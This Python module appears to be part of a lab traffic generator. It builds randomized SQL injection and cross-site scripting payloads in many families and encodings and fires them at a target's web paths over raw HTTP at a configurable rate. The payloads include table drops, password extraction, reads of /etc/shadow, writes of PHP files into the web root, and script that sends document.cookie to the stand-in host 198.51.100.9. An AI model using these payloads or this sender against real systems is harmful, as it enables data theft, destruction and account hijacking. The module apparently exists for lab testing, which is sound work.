"""SQL and script injection: our own payloads by family and encoding, sent to the hub's pages.

Families follow the usual taxonomy (OWASP testing guide, CAPEC-66 and CAPEC-63); every payload is composed
here from parts. They are aimed at a database in memory and at pages nobody opens.
"""

from __future__ import annotations

import asyncio
import time
from collections.abc import Callable
from random import Random
from urllib.parse import quote, quote_plus

from wirespeak.lab.attacks.start import Pace, start
from wirespeak.lab.devices.device import MISHAPS

Maker = Callable[[Random], str]


def _columns(r: Random) -> str:
    return ",".join(
        r.choice(("null", str(i), "name", "password", "sqlite_version()")) for i in range(r.randint(1, 6))
    )


def _end(r: Random) -> str:
    return r.choice(("--", "-- -", "#", "/*", ";--", ""))


def _truth(r: Random) -> str:
    n = r.randint(1, 9999)
    return r.choice((f"{n}={n}", f"'{n}'='{n}", f"{n}<{n + 1}", "'a'='a", f"{n} like {n}", "true"))


SQLI: dict[str, Maker] = {
    "tautology": lambda r: (
        f"{r.choice(('1', '0', 'x', ''))}{r.choice((chr(39), chr(34), '', chr(39) + ')'))} or {_truth(r)} {_end(r)}"
    ),
    "union": lambda r: (
        f"{r.choice(('-1', '0', '1'))}{r.choice(('', chr(39)))} union {r.choice(('', 'all '))}select {_columns(r)} from {r.choice(('users', 'items', 'sqlite_master', 'information_schema.tables'))} {_end(r)}"
    ),
    "error": lambda r: (
        f"1{r.choice((chr(39), chr(34)))} and {r.choice(('extractvalue(1,concat(0x7e,version()))', 'cast(name as int)=1', 'abs(-9223372036854775808)', f'1=convert(int,{r.randint(1, 9)})'))} {_end(r)}"
    ),
    "blind": lambda r: (
        f"1{r.choice(('', chr(39)))} and {r.choice(('', 'not '))}(select substr(password,{r.randint(1, 12)},1) from users limit 1){r.choice('<=>')}{chr(39)}{r.choice('abcdefghkm0123456789')}{chr(39)} {_end(r)}"
    ),
    "time": lambda r: (
        f"1{r.choice(('', chr(39)))}{r.choice((f' and sleep({r.randint(1, 9)})', f'; waitfor delay {chr(39)}0:0:{r.randint(1, 9)}{chr(39)}', f' or benchmark({r.randint(10**5, 10**7)},md5(1))', f' and 1=(select count(*) from items a, items b where randomblob({r.randint(10, 99)}))'))} {_end(r)}"
    ),
    "stacked": lambda r: (
        f"1{r.choice(('', chr(39)))}; {r.choice(('drop table items', f'insert into users values({chr(39)}x{chr(39)},{chr(39)}{r.randint(1, 999)}{chr(39)})', 'delete from items', f'update users set password={chr(39)}{r.randint(1, 999)}{chr(39)}'))} {_end(r)}"
    ),
    "order": lambda r: (
        f"{r.randint(1, 9)}{r.choice(('', chr(39)))} {r.choice(('order by', 'group by'))} {r.randint(1, 30)} {_end(r)}"
    ),
    "case": lambda r: (
        f"(case when ({r.randint(1, 9)}{r.choice('<=>')}{r.randint(1, 9)}) then {r.randint(1, 12)} else {r.choice(('null', 'abs(-9223372036854775808)', '(select 1 union select 2)'))} end)"
    ),
    "exists": lambda r: (
        f"{r.randint(1, 12)}{r.choice(('', chr(39)))} {r.choice(('and', '&&', 'xor'))} exists(select * from {r.choice(('users', 'sqlite_master', 'pg_shadow', 'mysql.user'))} where {r.choice(('name', 'password', 'user'))} {r.choice(('like', 'glob', 'regexp'))} '{r.choice('abcdrx')}{r.choice('%*')}') {_end(r)}"
    ),
    "file": lambda r: (
        f"{r.choice(('-1', '0'))}{r.choice(('', chr(39), chr(41)))} union select {r.choice(('load_file', 'readfile', 'pg_read_file', 'load_extension'))}({r.choice(('0x2f6574632f706173737764', chr(39) + '/etc/shadow' + chr(39), 'char(47,101,116,99)'))}) {r.choice(('', f'into outfile {chr(39)}/var/www/{r.randint(1, 99)}.php{chr(39)}'))} {_end(r)}"
    ),
}


def _do(r: Random) -> str:
    return r.choice(
        (
            f"alert({r.randint(1, 999)})",
            "alert(document.cookie)",
            "fetch('//198.51.100.9/?c='+document.cookie)",
            "prompt(1)",
            "confirm`1`",
            "eval(atob('YWxlcnQoMSk='))",
            f"document.location='http://198.51.100.9/{r.randint(1, 99)}'",
            "console.log(localStorage)",
        )
    )


XSS: dict[str, Maker] = {
    "tag": lambda r: (
        f"{r.choice(('', '>', chr(34) + '>', '</title>'))}<script{r.choice(('', ' ', ' type=text/javascript', ' src=//198.51.100.9/x.js'))}>{_do(r)}</script>"
    ),
    "event": lambda r: (
        f"{r.choice(('', chr(34) + '>'))}<{r.choice(('img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'details open'))} {r.choice(('onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle'))}={r.choice(('', chr(34)))}{_do(r)}>"
    ),
    "attribute": lambda r: (
        f"{r.choice((chr(34), chr(39)))} {r.choice(('onmouseover', 'onclick', 'onfocus'))}={r.choice((chr(34), chr(39)))}{_do(r)} x={r.choice((chr(34), chr(39)))}"
    ),
    "link": lambda r: (
        f"<{r.choice(('a href', 'iframe src', 'form action', 'object data'))}={r.choice(('', chr(34)))}javascript:{_do(r)}>{r.choice(('click', 'news', ''))}"
    ),
    "nested": lambda r: f"<scr<script>ipt>{_do(r)}</scr</script>ipt>",
    "polyglot": lambda r: (
        f"{r.choice((chr(34), chr(39)))}{r.choice(('-->', '*/', ')//', ']]>'))}</{r.choice(('script', 'style', 'textarea', 'noscript'))}><{r.choice(('object data', 'embed src', 'math href'))}=data:text/html,{_do(r)}//"
    ),
    "style": lambda r: (
        f"<style>@import'//198.51.100.9/{r.randint(1, 99)}.css';</style><svg><animate onbegin={_do(r)} attributeName=x>"
    ),
    "template": lambda r: (
        f"{r.choice(('{{', '${', '#{', '<%='))}{r.choice(('constructor.constructor', 'this.constructor.constructor', '[].pop.constructor', '$on.constructor'))}('{r.choice(('alert(1)', 'print()', 'import(name)'))}')(){r.choice(('}}', '}', '%>'))}"
    ),
    "spelt": lambda r: (
        f"<{r.choice(('a href', 'iframe src', 'base href'))}={r.choice(('java&#115;cript:', 'jav&#x09;ascript:', '&#106;avascript&colon;', 'data:text/html;base64,'))}{r.choice(('PHNjcmlwdD4', 'top[8680439..toString(30)](1)', 'self[atob`YWxlcnQ`](1)'))}>"
    ),
    "meta": lambda r: (
        f"{r.choice(('', '-->', '</title>'))}<{r.choice(('meta http-equiv=refresh content', 'link rel=import href', 'object data', 'isindex action'))}={r.choice(('', chr(34)))}{r.randint(0, 9)};url=//198.51.100.9/{r.randint(1, 99)}{r.choice(('.svg', '.xml', '#' + _do(r)))}{r.choice(('', chr(34)))}>"
    ),
}

ENCODINGS: dict[str, Callable[[str, Random], str]] = {
    "percent": lambda text, r: quote(text, safe=""),
    "plus": lambda text, r: quote_plus(text, safe="()=,'"),
    "full": lambda text, r: "".join(f"%{byte:02X}" for byte in text.encode()),
    "double": lambda text, r: quote(quote(text, safe=""), safe=""),
    "case": lambda text, r: quote("".join(r.choice((c.upper(), c.lower())) for c in text), safe=""),
    "comment": lambda text, r: quote(text.replace(" ", "/**/"), safe=""),
    "entity": lambda text, r: quote(text.replace("<", "&lt;").replace("a", "&#97;"), safe=""),
    "blank": lambda text, r: quote(text, safe="").replace("%20", r.choice(("%09", "%0a", "%0b", "+"))),
}


def payloads(makers: dict[str, Maker], families: str, random: Random, how_many: int) -> list[str]:
    """Payloads of these families, as they are before any encoding, for tools that read lists."""
    return [makers[random.choice(families.split())](random) for _ in range(how_many)]


_PLACES = {
    "sqli": ("/item?id=", "/item?id=", "/search?q=", "/login", "/api/items?sort="),
    "xss": ("/search?q=", "/comments", "/item?id=", "/collect?name="),
}


async def attack(
    *,
    target: str,
    kind: str,
    families: list[str],
    encodings: list[str],
    rate: float,
    post: bool,
    keep: bool,
    seconds: float,
    seed: int,
) -> None:
    """Send payloads at `rate`, by GET or in forms; `keep` reuses the connection."""
    random, pace, end = Random(seed), Pace(rate), time.monotonic() + seconds
    makers = SQLI if kind == "sqli" else XSS
    kept: tuple[asyncio.StreamReader, asyncio.StreamWriter] | None = None
    while time.monotonic() < end:
        payload = ENCODINGS[random.choice(encodings)](makers[random.choice(families)](random), random)
        place = random.choice(_PLACES[kind])
        if post or "?" not in place:
            path = place.partition("?")[0]
            field = {"/login": f"user={payload}&password=x", "/comments": f"text={payload}&name=me"}.get(
                path, f"{place.partition('?')[2] or 'q='}{payload}"
            )
            request = f"POST {path} HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(field)}\r\n"
        else:
            request, field = f"GET {place}{payload} HTTP/1.1\r\nHost: {target}\r\nAccept: */*\r\n", ""
        try:
            if kept is None:
                kept = await asyncio.wait_for(asyncio.open_connection(target, 80), 4)
            reader, writer = kept
            kept = None
            writer.write(
                f"{request}User-Agent: Mozilla/5.0\r\nConnection: {'keep-alive' if keep else 'close'}\r\n\r\n{field}".encode()
            )
            await asyncio.wait_for(reader.read(16384), 4)
            if keep and random.random() < 0.9:
                kept = reader, writer
            else:
                writer.close()
        except MISHAPS:
            kept = None
        await asyncio.sleep(pace.wait_s() if random.random() < 0.7 else random.uniform(0, 2 / rate))


if __name__ == "__main__":
    start(attack)
